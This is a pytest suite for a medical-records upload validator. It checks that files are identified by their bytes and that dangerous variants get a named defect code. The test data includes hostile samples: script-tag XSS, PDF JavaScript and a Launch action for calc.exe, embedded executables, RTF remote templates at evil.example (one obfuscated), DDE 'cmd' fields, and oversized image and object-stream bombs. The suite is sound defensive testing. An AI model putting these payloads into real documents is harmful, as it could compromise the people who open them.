"""Files that people and software send: told by their bytes, read for real, refused by name."""

import gzip
import struct
import zlib

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pikepdf import Dictionary, Name
from PIL import Image

from carnet.formats.content import examine_content
from carnet.formats.media_types import ACCEPTED
from carnet.formats.sniffing import decode_text, sniff
from tests.formats.cda.documents import note, section, self_presenting, structured
from tests.formats.cda.files import (
    JPEG,
    PDF,
    PNG,
    RTF,
    TEXT,
    TIFF,
    annotate,
    codes,
    dicom,
    image,
    pdf,
    set_root,
    swelling_pdf,
    zipped,
)


@pytest.mark.parametrize(
    ("content", "declared"),
    [
        (note(), "text/xml"),
        (note(), "application/xml; charset=utf-8"),
        (note().replace(b"<?xml version='1.0' encoding='UTF-8'?>\n", b"<!-- une note -->"), "text/xml"),
        (self_presenting(note()), "text/xml"),
        (structured(section("Rien à signaler")), "text/xml"),
        (PDF, "application/pdf"),
        (JPEG, "image/jpeg"),
        (JPEG, "IMAGE/JPG"),
        (PNG, "image/png"),
        (TIFF, "image/tiff"),
        (image("TIFF", save_all=True, append_images=[Image.new("L", (40, 30))] * 3), "image/tiff"),
        (RTF, "text/rtf"),
        (RTF, "application/rtf"),
        (TEXT, "text/plain"),
        ("Poids : 61 kg, œdème".encode("windows-1252"), "text/plain"),
        (dicom(), "application/dicom"),
        (dicom(preamble=b"II*\x00".ljust(128, b"\0")), "application/dicom"),
    ],
)
def test_a_harmless_file_may_be_kept(content: bytes, declared: str) -> None:
    assert codes(content, declared) == []


@pytest.mark.parametrize(
    ("content", "declared", "code"),
    [
        (b"", "application/pdf", "empty-file"),
        (zipped(), "text/xml", "archive-refused"),
        (gzip.compress(note()), "text/xml", "archive-refused"),
        (zipped(), "application/pdf", "archive-refused"),
        (zipped(), "application/zip", "type-not-accepted"),
        (b"MZ\x90\x00", "application/octet-stream", "type-not-accepted"),
        (b"<html><script>alert(1)</script></html>", "text/html", "type-not-accepted"),
        (b"MZ\x90\x00", "application/pdf", "content-type-mismatch"),
        (b"<html><script>alert(1)</script></html>", "text/plain", "content-type-mismatch"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image/png", "content-type-mismatch"),
        (b"Une lettre, pas un PDF.", "application/pdf", "content-type-mismatch"),
        (b"\n" + PDF, "application/pdf", "content-type-mismatch"),
        (PDF, "image/jpeg", "content-type-mismatch"),
        (JPEG, "image/png", "content-type-mismatch"),
        (PNG, "text/xml", "content-type-mismatch"),
        (image("GIF"), "image/png", "content-type-mismatch"),
        (b"Tout va bien.\x00\x1b[2J", "text/plain", "content-type-mismatch"),
        (bytes(5000), "text/plain", "content-type-mismatch"),
        (b"   \n", "text/plain", "content-type-mismatch"),
        (bytes(5000), "application/dicom", "content-type-mismatch"),
        (bytes(60_000_000), "text/xml", "broken-xml"),
        (TEXT, "text/xml", "broken-xml"),
        (b"<html><body/></html>", "text/xml", "not-a-cda"),
        (b"<!DOCTYPE html><html/>", "text/xml", "doctype-refused"),
        (b"%PDF-1.7\nnot really\n%%EOF", "application/pdf", "pdf-broken"),
        (PDF[: len(PDF) // 2], "application/pdf", "pdf-broken"),
        (JPEG[: len(JPEG) // 2], "image/jpeg", "image-broken"),
        (PNG[: len(PNG) // 2], "image/png", "image-broken"),
        (TIFF[: len(TIFF) // 2], "image/tiff", "image-broken"),
        (RTF[:-1], "text/rtf", "rtf-broken"),
        (RTF + b"<script>alert(1)</script>", "text/rtf", "rtf-broken"),
        (dicom()[:150], "application/dicom", "dicom-broken"),
        (dicom(transfer_syntax=b"1.2.840.10008.1.2.1\0")[:170], "application/dicom", "dicom-broken"),
        (dicom().replace(b"UL", b"XX"), "application/dicom", "dicom-broken"),
        (dicom().replace(b"\x02\x00\x10\x00UI", b"\x03\x00\x10\x00UI"), "application/dicom", "dicom-broken"),
        (RTF.replace(b"revoir.}", b"revoir.}}"), "text/rtf", "rtf-broken"),
        (b"{\\rtf1}}{{", "text/rtf", "rtf-broken"),
        (pdf(set_root("/X", pikepdf.Array([pikepdf.Array([])] * 400_000))), "application/pdf", "pdf-too-complex"),
        (dicom(preamble=b"MZ\x90\x00".ljust(128, b"\0")), "application/dicom", "dicom-preamble"),
    ],
    ids=lambda value: value if isinstance(value, str) else None,
)
def test_a_file_that_is_not_what_it_should_be_has_one_named_defect(content: bytes, declared: str, code: str) -> None:
    assert codes(content, declared) == [code]


def test_a_file_beyond_the_limit_is_refused_before_it_is_read() -> None:
    assert codes(PDF, "application/pdf", max_bytes=len(PDF) - 1) == ["file-too-large"]
    assert codes(PDF, "application/pdf", max_bytes=len(PDF)) == []


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (pdf(set_root("/OpenAction", Dictionary(S=Name.JavaScript, JS="app.alert(1)"))), "pdf-javascript"),
        (pdf(lambda one: annotate(one, AA=Dictionary(E=Dictionary(S=Name.JavaScript, JS="x")))), "pdf-javascript"),
        (pdf(lambda one: one.pages[0].__setitem__("/AA", Dictionary(O=Dictionary(JS="x")))), "pdf-javascript"),
        (pdf(set_root("/OpenAction", Dictionary(S=Name.Launch, F="calc.exe"))), "pdf-launch"),
        (pdf(lambda one: annotate(one, A=Dictionary(S=Name.SubmitForm, F="https://x"))), "pdf-external-action"),
        (pdf(lambda one: annotate(one, A=Dictionary(S=Name.GoToR, F="other.pdf"))), "pdf-external-action"),
        (pdf(lambda one: annotate(one, Subtype=Name.RichMedia)), "pdf-multimedia"),
        (pdf(lambda one: one.attachments.__setitem__("a.exe", b"MZ")), "pdf-embedded-file"),
        (pdf(set_root("/AcroForm", Dictionary(XFA="<xdp/>"))), "pdf-xfa"),
        (pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "pdf-encrypted"),
        (pdf(encryption=pikepdf.Encryption(owner="o", user="")), "pdf-encrypted"),
        (pdf(set_root("/X", Dictionary(Filter=Name.LZWDecode))), "pdf-lzw"),
        (pdf(set_root("/X", Dictionary(Filter=Name.Y))).replace(b"/Filter /Y", b"/Filter /L#5aW"), "pdf-lzw"),
        (pdf(set_root("/X", Dictionary(Filter=Name.Y))).replace(b"/Filter /Y", b"/Filter 9 0 R"), "pdf-lzw"),
        (pdf(lambda one: one.pages.__delitem__(0)), "pdf-broken"),
    ],
)
def test_a_pdf_that_does_something_of_its_own_is_refused_by_name(content: bytes, code: str) -> None:
    assert codes(content, "application/pdf") == [code]


def test_what_a_pdf_hides_in_a_stream_of_objects_is_found_too() -> None:
    packed = pikepdf.ObjectStreamMode.generate
    hidden = pdf(
        set_root("/OpenAction", Dictionary(S=Name.Launch, Next=Dictionary(S=Name.JavaScript, JS="x"))),
        object_stream_mode=packed,
    )
    assert b"Launch" not in hidden
    assert codes(hidden, "application/pdf") == ["pdf-javascript", "pdf-launch"]


def test_a_stream_of_objects_that_swells_without_end_is_not_let_grow() -> None:
    assert codes(swelling_pdf(1_000), "application/pdf") == []
    assert codes(swelling_pdf(100_000_000), "application/pdf") == ["pdf-broken"]


@pytest.mark.parametrize(
    ("inside", "code"),
    [
        (rb"{\object\objemb{\*\objdata 0105}}", "rtf-object"),
        (rb"{\*\OBJDATA 0105}", "rtf-object"),
        (rb"{\pict\bin4 abcd}", "rtf-raw-binary"),
        (rb"{\*\template https://evil.example/a.dotm}", "rtf-external-content"),
        (rb"{\*\template \u104?\u116?tp://evil.example/a.dotm}", "rtf-external-content"),
        (rb"{\field{\*\fldinst {D}{DE cmd}}{\fldrslt x}}", "rtf-external-content"),
        (rb"{\field{\*\fldinst \'49NCLUDEPICTURE http://x}}", "rtf-external-content"),
        (b"{" * 300 + b"}" * 300, "rtf-broken"),
    ],
)
def test_an_rtf_that_carries_more_than_text_is_refused_by_name(inside: bytes, code: str) -> None:
    assert codes(rb"{\rtf1 " + inside + b"}", "text/rtf") == [code]


@pytest.mark.parametrize(
    "inside",
    [
        rb"{\field{\*\fldinst HYPERLINK \"https://example.org\"}{\fldrslt l'import et le link}}",
        rb"{\*\template C:\\Users\\anne\\Normal.dotm}",
        rb"{\*\datastore 0105}{\fonttbl{\f0 Arial;}}",
    ],
)
def test_an_rtf_as_word_processors_write_it_is_kept(inside: bytes) -> None:
    assert codes(rb"{\rtf1 " + inside + b"}", "text/rtf") == []


@pytest.mark.parametrize("side", [8_001, 12_000, 30_000])
def test_an_image_of_too_many_pixels_is_never_decoded(side: int) -> None:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    assert codes(b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", b""), "image/png") == ["image-too-large"]


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        (note(), "text/xml"),
        (self_presenting(note()), "text/xml"),
        ('<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16"), "text/xml"),
        (PDF, "application/pdf"),
        (JPEG, "image/jpeg"),
        (dicom(), "application/dicom"),
        (RTF, "text/rtf"),
        (TEXT, "text/plain"),
        (b"  <!doctype html>", "text/html"),
        (zipped(), "application/zip"),
        (b"", None),
        (bytes(300), None),
    ],
)
def test_a_file_is_told_by_its_bytes(content: bytes, media_type: str | None) -> None:
    assert sniff(content) == media_type


def test_old_software_writes_its_letters_in_windows_1252() -> None:
    assert decode_text("œdème".encode("windows-1252")) == "œdème"
    assert decode_text("œdème".encode("utf-8-sig")) == "œdème"
    assert decode_text(b"a\x00b") is None
    assert decode_text(b"a\x81b") is None


BEGINNINGS = [b"", b"%PDF-1.4\n", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"II*\x00", b"MM\x00*", b"{\\rtf", b"<?xml"]


@given(st.binary(max_size=300), st.sampled_from(sorted(ACCEPTED)), st.sampled_from([*BEGINNINGS, bytes(128) + b"DICM"]))
def test_no_bytes_make_the_examination_fail(content: bytes, declared: str, beginning: bytes) -> None:
    for defect in examine_content(beginning + content, declared):
        assert defect.code
        assert defect.where
